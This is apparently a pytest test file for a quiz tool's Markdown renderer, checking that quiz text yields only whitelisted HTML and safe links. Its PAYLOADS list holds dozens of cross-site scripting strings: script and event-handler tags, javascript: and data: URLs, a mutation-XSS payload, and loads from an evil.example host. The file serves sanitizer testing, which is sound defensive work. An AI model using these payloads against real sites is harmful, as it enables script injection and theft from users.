"""Whatever a trainer or a thief writes into a quiz: a little Markdown comes out, and nothing that can act."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handbook.quiz.inline import SIMPLE, Writer
from handbook.quiz.links import PageInfo, Resolver
from handbook.quiz.report import Report

WRITER = Writer()
ALLOWED = {
    "a": {"href", "title"},
    "br": set[str](),
    "code": set[str](),
    "em": set[str](),
    "strong": set[str](),
    "p": set[str](),
    "ul": set[str](),
    "ol": {"start"},
    "li": set[str](),
    "blockquote": set[str](),
}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>'-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "</p></label></fieldset><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "[x](http://evil.example/)",
    '[x](https://ok.example/ "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://ok.example/"onmouseover=alert(1))',
    "![x](https://evil.example/track.png)",
    '![x](x" onerror="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "<a@evil.example>",
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
    "*[<svg onload=alert(1)>](https://ok.example/)*",
    "x{: onclick=alert(1) }",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u0002klzzwxh:0000\u0003",
    "\\<script>alert(1)\\</script>",
    "    <script>alert(1)</script>",
]


class Judge(HTMLParser):
    """Collects what a browser would find in a piece of HTML and must not."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.text = ""
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge an element by the list of those allowed."""
        self.bad += [] if tag in ALLOWED else [tag]
        self.bad += [f"{tag} {name}" for name, _ in attrs if name not in ALLOWED.get(tag, set())]
        self.addresses += [value or "" for name, value in attrs if name == "href"]

    def handle_data(self, data: str) -> None:
        """Collect the text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Comments can hide things."""
        self.bad.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        """So can declarations."""
        self.bad.append(decl)

    def unknown_decl(self, data: str) -> None:
        """And sections."""
        self.bad.append(data)

    def handle_pi(self, data: str) -> None:
        """And instructions."""
        self.bad.append(data)


def resolver() -> Resolver:
    """Return a resolver of a site of two pages."""
    pages = {"a.md": PageInfo("a/", "甲", {"要点": "要点"}), "b.md": PageInfo("b/", "乙", {})}
    return Resolver("a.quiz.yml", "a.md", pages, Report("docs/a.quiz.yml", []))


def written(text: str) -> list[str]:
    """Return the text as HTML, as a sentence and as a passage."""
    links = resolver()
    return [str(write(text, lambda to: links.link(to, links.report, ()))) for write in (WRITER.inline, WRITER.block)]


def harmless(html: str) -> Judge:
    """Return the judge of a piece of HTML after the sentence: not guilty."""
    judge = Judge(html)
    assert not judge.bad, html
    for address in judge.addresses:
        assert address.startswith(("https://", "mailto:", "tel:", "../", "#")) or address in {"", "./"}, html
    return judge


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "您好，**{}** 再见", "- 一\n- {}", "第一行\n{}"])
def test_nothing_that_can_act_comes_out(payload: str, frame: str) -> None:
    """Only a few elements, hardly an attribute, and only addresses of the site, https, mailto and tel."""
    for html in written(frame.format(payload)):
        harmless(html)


@given(st.text(alphabet="<>\"'=/&;:#![](){}*_`~\\ \n-+.abjsx:你1\u0002\u0003", max_size=60))
def test_no_mixture_of_signs_gets_out(text: str) -> None:
    """Not from a list of known tricks: any run of the signs that mean something."""
    for html in written(text):
        harmless(html)


@pytest.mark.parametrize(
    "text", ["<订单号>", "a < b > c", "<b>粗</b>", "&lt;订单号&gt;", "AT&T", "<!-- 注释 -->", "5 > 3 & 2"]
)
def test_html_shows_as_text(text: str) -> None:
    """What looks like HTML is read by the learner letter for letter."""
    for html in written(text):
        assert harmless(html).text.strip() == text
    for html in written(f"**重**：{text}"):
        assert harmless(html).text.strip() == f"重：{text}"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**重点**", "<strong>重点</strong>"),
        ("请说*您*", "请说<em>您</em>"),
        ("按 `F5`", "按 <code>F5</code>"),
        ("一\n二", "一<br>\n二"),
        ("[乙](b.md)", '<a href="../b/">乙</a>'),
        ("[要点](#要点)", '<a href="#要点">要点</a>'),
        ("[官网](https://example.org/)", '<a href="https://example.org/">官网</a>'),
        ("[电话](tel:12345)", '<a href="tel:12345">电话</a>'),
    ],
)
def test_a_little_markdown(text: str, html: str) -> None:
    """Emphasis, code, line breaks and safe links work in a sentence."""
    assert written(text)[0] == html


def test_passage_has_paragraphs_and_lists() -> None:
    """A passage keeps its paragraphs and lists; a sentence never gets a block element."""
    sentence, passage = written("第一段\n\n第二段\n\n- 一\n- 二")
    assert passage.count("<p>") == 2
    assert passage.count("<li>") == 2
    assert "<p>" not in sentence


@pytest.mark.parametrize("target", ["javascript:alert(1)", "http://x.example/", "/root.md", "//x.example/", "data:,x"])
def test_refused_links_are_reported(target: str) -> None:
    """A link that may not be is shown as text and named to the author."""
    links = resolver()
    html = WRITER.inline(f"[看]({target})", lambda to: links.link(to, links.report, ()))
    assert Judge(str(html)).addresses == []
    assert [problem.code for problem in links.report.problems] in (["link-scheme"], ["link-not-found"])


BITS = st.sampled_from(
    ["**", "**", "**", "字", "好的", "a", " ", "，", "。", '"', "#", "1. ", "- ", "：", "!", "|", "(", "x.y"]
)


@given(st.lists(BITS, min_size=1, max_size=12).map(lambda bits: "".join(bits).strip()))
def test_bold_words_need_no_markdown(text: str) -> None:
    """A sentence with words in bold becomes what Python-Markdown, which a code span calls in, makes of it."""
    whole = WRITER.inline(f"{text}`x`", str)
    simple = "**" in text and SIMPLE.fullmatch(text)
    assert not simple or WRITER.inline(text, str) == whole.removesuffix("<code>x</code>")
